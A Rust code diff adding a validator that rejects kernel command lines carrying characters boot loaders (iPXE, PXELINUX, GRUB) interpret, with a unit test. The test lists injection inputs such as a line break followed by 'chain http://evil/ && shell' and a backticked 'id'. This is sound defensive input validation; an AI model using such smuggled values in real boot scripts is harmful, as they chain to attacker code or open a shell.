@@ -89,9 +89,64 @@ pub fn parse(line: &str) -> Cmdline {
     cmdline
 }
 
+/// Characters a kernel command line never carries into a boot script: each
+/// means something to one of the loaders that take the line as it is
+/// (iPXE: `||` `&&` chain commands, `${…}` expands a setting, `#` starts a
+/// comment; GRUB: `;` `$` `{` `}` `'` `\` and `` ` ``; every loader: a
+/// line break ends the command).
+const SCRIPT_SPECIAL: &[char] = &['|', '&', ';', '$', '`', '\\', '{', '}', '#', '\''];
+
+/// Whether `line` can go into an iPXE, PXELINUX or GRUB script as it is:
+/// printable ASCII (spaces, no tabs or line breaks), none of the characters
+/// a loader's script gives a meaning, double quotes in pairs. The error
+/// names the first character that cannot be quoted and where it is.
+pub fn check_script_safe(line: &str) -> Result<(), String> {
+    for (index, c) in line.char_indices() {
+        let why = if c == '\n' || c == '\r' {
+            "a line break"
+        } else if c.is_ascii_control() || !c.is_ascii() {
+            "a control or non-ASCII character"
+        } else if SCRIPT_SPECIAL.contains(&c) {
+            "a character boot scripts give a meaning"
+        } else {
+            continue;
+        };
+        return Err(format!("{c:?} at byte {index} is {why}; boot menus (iPXE, PXELINUX, GRUB) cannot carry it"));
+    }
+    if line.matches('"').count() % 2 == 1 {
+        return Err("an unpaired double quote; boot menus (GRUB) cannot carry it".into());
+    }
+    Ok(())
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn only_what_every_boot_script_carries_as_it_is_passes() {
+        check_script_safe(
+            "console=ttyS0,115200 quiet rootsmith.rootfs_url=http://10.0.2.2:8080/r-1.0-rootfs.img a=\"b c\"",
+        )
+        .unwrap();
+        for bad in [
+            "x\nchain http://evil/ && shell",
+            "a || shell",
+            "a && b",
+            "${next-server}",
+            "a;b",
+            "`id`",
+            "a#b",
+            "it's",
+            "x\ty",
+            "é",
+            "a\"b",
+        ] {
+            assert!(check_script_safe(bad).is_err(), "{bad:?} passed");
+        }
+        let error = check_script_safe("ok\nkernel http://evil").unwrap_err();
+        assert!(error.contains("at byte 2") && error.contains("line break"), "{error}");
+    }
 
     #[test]
     fn splits_on_whitespace_outside_quotes() {
